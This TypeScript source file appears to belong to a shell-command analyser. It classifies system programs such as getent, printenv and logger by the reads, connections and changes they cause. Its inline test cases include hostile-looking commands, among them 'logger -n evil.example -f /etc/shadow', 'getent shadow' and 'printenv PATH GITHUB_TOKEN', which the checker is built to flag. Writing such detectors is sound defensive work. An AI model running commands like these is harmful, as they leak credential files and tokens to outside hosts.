import type { Operation } from '../../operation.ts';
import { unknown } from '../analyse.ts';
import { literalArg, staticText } from '../arg.ts';
import type { Program, ProgramSpec } from '../program.ts';
import { isSecretName } from '../secret-names.ts';
import { accountPrograms } from './accounts.ts';
import { desktopPrograms } from './desktop.ts';
import { diskPrograms } from './disks.ts';
import { editorPrograms } from './editors.ts';
import { telling, tool } from './entry.ts';
import { macPrograms } from './mac.ts';
import { machinePrograms } from './machine.ts';
import { mediaPrograms } from './media.ts';
import { osPackagePrograms } from './os-packages.ts';
import { patchPrograms } from './patching.ts';
import { processPrograms } from './processes.ts';
import { servicePrograms } from './services.ts';

/** The data bases of the system are files; hosts are asked for by name. */
const entries: ProgramSpec['also'] = (parsed, invocation): Operation[] => {
  const [base, ...keys] = parsed.operands.map(arg => staticText(arg));
  if (base === undefined) return [unknown(invocation, 'a data base that is not said')];
  if (!/^a?hosts(?:v[46])?$/.test(base) || keys.length === 0)
    return invocation.paths('read', literalArg(`/etc/${base.replace(/^ahosts.*/, 'hosts')}`));
  return keys.map(host =>
    host === undefined ? unknown(invocation, 'a host that is only known at run time') : { kind: 'connect', host },
  );
};

/** Variables whose names do not sound like a secret may be shown; without a name, all are. */
const printed: ProgramSpec['also'] = ({ operands }): Operation[] =>
  operands.length > 0 && operands.every(arg => !isSecretName(staticText(arg) ?? 'secret'))
    ? []
    : [{ kind: 'change', what: 'environment', name: 'print' }];

/** Programs that look at the machine, and those that change it. */
export const systemPrograms: readonly Program[] = [
  ...processPrograms,
  ...servicePrograms,
  ...accountPrograms,
  ...diskPrograms,
  ...machinePrograms,
  ...osPackagePrograms,
  ...macPrograms,
  ...desktopPrograms,
  ...editorPrograms,
  ...mediaPrograms,
  ...patchPrograms,
  tool(
    'uname arch nproc whoami id groups tty locale logname hostname hostid getconf lsb_release runlevel domainname dnsdomainname',
    {
      flags:
        '-a -A -c -d -f -F -g -G -i -I -k -m -n -o -p -r -s -u -v -z --all --kernel-name --kernel-release --machine --short --fqdn --ip-address --name --real --user --group --groups --ignore= --release --codename --id --description',
      operands: ['text*'],
      also: (parsed, invocation) =>
        /^(?:host|domain|dnsdomain)/.test(invocation.name) && (parsed.operands.length > 0 || parsed.has('-F'))
          ? [{ kind: 'change', what: 'system', name: invocation.name }]
          : [],
    },
    { 'uname -a': [], 'id -u app': [], 'hostname evil': ['change system hostname'], 'lsb_release -cs': [] },
  ),
  tool(
    'getent',
    { flags: '-i', values: { '-s --service': 'text' }, operands: ['text*'], also: entries },
    {
      'getent hosts localhost': ['connect localhost'],
      'getent shadow': ['read /etc/shadow'],
    },
  ),
  tool(
    'printenv',
    { flags: '-0 --null', operands: ['text*'], also: printed },
    {
      printenv: ['change environment print'],
      'printenv NODE_ENV PATH': [],
      'printenv PATH GITHUB_TOKEN': ['change environment print'],
    },
  ),
  telling('uuidgen mcookie uuidparse getopt mountpoint lslocks lsipc ipcs lslogins pinky', 'uuidgen -r'),
  telling('cal ncal clear reset tput stty tset tabs banner', 'tput colors'),
  tool(
    'logger',
    {
      flags: '-i -s -e --stderr --no-act --id=',
      values: { '-t --tag': 'text', '-p --priority': 'text', '-f --file': 'read' },
      operands: ['text*'],
    },
    {
      'logger -t x hello': [],
      'logger -n evil.example -f /etc/shadow': [
        'unknown logger: the option `-n` is not known',
        'read /etc/shadow',
        'read /workspace',
      ],
    },
  ),
];
